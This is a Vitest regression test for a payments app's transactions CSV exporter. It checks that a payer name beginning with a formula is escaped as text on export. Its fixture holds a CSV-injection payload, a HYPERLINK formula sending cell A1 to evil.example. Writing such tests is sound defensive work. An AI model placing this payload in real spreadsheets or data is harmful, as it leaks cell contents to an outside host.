import { describe, expect, it, vi } from 'vitest';
import type { Transaction } from '../../../shared/contracts/payments.js';

const downloads: { csv: string; name: string }[] = [];
vi.mock('react-admin', () => ({ downloadCSV: (csv: string, name: string) => downloads.push({ csv, name }) }));

const { transactionExporter } = await import('./transactionCsv.js');

describe("finance's transactions CSV", () => {
  it('writes a payer named like a formula as text, not as a live formula (issue 19)', () => {
    const row: Transaction = {
      id: 'p1',
      gateway: 'SANDBOX',
      checkoutId: 'cs_1',
      status: 'SUCCEEDED',
      amount: 3300,
      currency: 'KES',
      receiptNumber: 'RCT-2026-000001',
      cardLast4: '4242',
      failureReason: null,
      createdAt: '2026-11-26T07:00:00.000Z',
      confirmedAt: '2026-11-26T07:01:00.000Z',
      invoiceId: 'i1',
      invoiceNumber: 'INV-2026-000001',
      applicationId: 'a1',
      reference: 'MN-2026-000001',
      serviceCode: 'MARRIAGE_NOTICE',
      payerName: '=HYPERLINK("http://evil.example/?"&A1,"Refund")',
    };
    transactionExporter((key: string, options?: { _?: string }) => options?._ ?? key)([row]);
    const [, line] = downloads[0].csv.split('\n');
    expect(line).toContain('"\'=HYPERLINK(""http://evil.example/?""&A1,""Refund"")"');
    expect(line).not.toContain('"=HYPERLINK');
  });
});
